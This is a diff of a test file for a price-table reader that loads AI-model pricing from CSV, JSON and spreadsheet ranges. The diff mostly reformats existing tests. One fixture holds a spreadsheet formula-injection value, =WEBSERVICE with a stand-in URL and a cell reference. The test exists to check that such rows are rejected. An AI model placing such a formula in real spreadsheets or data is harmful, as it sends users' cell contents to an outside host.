@@ -20,15 +20,40 @@ test.each([
 });
 
 test('a range of the workbook is read as it is, dates included', () => {
-  const block = [['model', 'input', 'output', 'valid_from', 'checked'], ['gpt-4o', 2.25, 9, 46_357, 46_349]];
+  const block = [
+    ['model', 'input', 'output', 'valid_from', 'checked'],
+    ['gpt-4o', 2.25, 9, 46_357, 46_349],
+  ];
   expect(readOwnPrices(block, 'Sheet1!A1:E2', '2026-11-23').rows).toEqual([
-    { provider: '', model: 'gpt-4o', input: 2.25, output: 9, valid_from: '2026-12-01', checked: '2026-11-23', source: 'own-prices: Sheet1!A1:E2' },
+    {
+      provider: '',
+      model: 'gpt-4o',
+      input: 2.25,
+      output: 9,
+      valid_from: '2026-12-01',
+      checked: '2026-11-23',
+      source: 'own-prices: Sheet1!A1:E2',
+    },
   ]);
 });
 
 test('conditions, factors and a source of their own are kept', async () => {
-  const { rows } = await read('provider,model,tier,region,ctx_from,input,multiplier,currency,source,checked\nacme,m,batch,eu,200001,,0.5,EUR,contract 17,2026-10-01');
-  expect(rows).toEqual([{ provider: 'acme', model: 'm', tier: 'batch', region: 'eu', ctx_from: 200_001, multiplier: 0.5, currency: 'EUR', source: 'contract 17', checked: '2026-10-01' }]);
+  const { rows } = await read(
+    'provider,model,tier,region,ctx_from,input,multiplier,currency,source,checked\nacme,m,batch,eu,200001,,0.5,EUR,contract 17,2026-10-01',
+  );
+  expect(rows).toEqual([
+    {
+      provider: 'acme',
+      model: 'm',
+      tier: 'batch',
+      region: 'eu',
+      ctx_from: 200_001,
+      multiplier: 0.5,
+      currency: 'EUR',
+      source: 'contract 17',
+      checked: '2026-10-01',
+    },
+  ]);
 });
 
 test.each(['4.10', '1E5', 'TRUE', '2026-11-23'])('P14 the name %s stays the name it is', async (name) => {
@@ -42,7 +67,12 @@ test.each([
   ['a price with its currency', 'openai,gpt-4o,$2.25,9', 'row 1 openai/gpt-4o', 'input is text, not a number'],
   ['P01 a negative price', 'openai,gpt-4o,-1,9', 'row 1 openai/gpt-4o', 'input is negative (-1)'],
   ['no model', 'openai,,2.25,9', 'row 1 openai', 'it has no model'],
-  ['P13 a formula for a model', 'openai,"=WEBSERVICE(""https://x/?""&A1)",2.25,9', 'row 1 openai/·WEBSERVICE··https://x/···A1·', 'the model name has characters that no model id has'],
+  [
+    'P13 a formula for a model',
+    'openai,"=WEBSERVICE(""https://x/?""&A1)",2.25,9',
+    'row 1 openai/·WEBSERVICE··https://x/···A1·',
+    'the model name has characters that no model id has',
+  ],
 ])('%s leaves out that row with the reason', async (_fault, line, what, reason) => {
   const { rows, unreadable } = await read(`provider,model,input,output\n${line}\nopenai,gpt-5,1.25,10\n`);
   expect(rows.map(({ model }) => model)).toEqual(['gpt-5']);
@@ -50,7 +80,11 @@ test.each([
 });
 
 test.each([
-  ['no column for the model', 'name,input\nx,1', /^The data from prices\.example\.com: .*its first row has no column "model"/],
+  [
+    'no column for the model',
+    'name,input\nx,1',
+    /^The data from prices\.example\.com: .*its first row has no column "model"/,
+  ],
   ['a column twice', 'model,Input,input\nx,1,2', /the column input is there twice/],
   ['an open quote', 'model,input\n"x,1', /is not valid CSV/],
   ['JSON that is no list', '{"model":"x","input":1}', /is not a list of rows/],
